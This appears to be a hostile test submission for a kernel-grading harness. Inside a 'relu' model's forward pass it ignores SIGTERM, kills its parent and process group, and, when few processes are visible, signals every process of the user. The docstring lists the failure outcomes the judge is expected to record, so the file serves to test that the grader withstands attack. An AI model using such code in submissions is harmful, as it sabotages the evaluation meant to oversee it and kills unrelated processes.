"""Kills its parent, its process group, and everything else it may signal.

Tries: to take the judge down with it.
Might work: signals go to any process of the same user. (The last step waits until few processes are in sight.)

problem: relu
expect: crashed|runtime_failed|mismatch|rejected|timed_out
"""

import os
import signal

import torch
from torch import nn


class ModelNew(nn.Module):
    def forward(self, x):
        in_sight = sum(name.isdigit() for name in os.listdir("/proc")) if os.path.isdir("/proc") else 1000
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        targets = [lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(0, signal.SIGTERM)]
        if in_sight <= 12:  # a namespace of its own: nobody else can be hurt
            targets.append(lambda: os.kill(-1, signal.SIGKILL))
        for shoot in targets:
            try:
                shoot()
            except OSError:
                continue
        return torch.zeros_like(x)
